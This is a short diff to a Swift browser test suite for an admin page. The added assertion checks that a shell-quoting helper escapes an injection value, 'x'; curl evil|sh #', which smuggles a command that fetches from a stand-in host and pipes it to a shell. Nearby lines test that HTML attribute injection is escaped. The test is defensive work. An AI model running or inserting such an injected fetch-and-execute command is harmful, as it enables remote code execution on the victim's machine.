@@ -101,6 +101,8 @@ struct AdminPageBrowserTests {
         let page = AdminPage.render(stats: stats, failures: [failure])
         #expect(page.contains("data-event-id=\"x&quot;\u{301} style=position:fixed a=\""))
         #expect(!page.unicodeScalars.split(separator: "\u{301}").dropLast().contains { $0.last == "\"" }, "no raw quote before the mark")
+        // The same in the shell command shown to copy: a quote with a mark still closes nothing.
+        #expect(AdminPage.shellQuoted("x'\u{301}; curl evil|sh #") == "'x'\\''\u{301}; curl evil|sh #'")
     }
 
     @Test("with admin_token the page shows replay commands, no buttons or script; hostile text stays text")
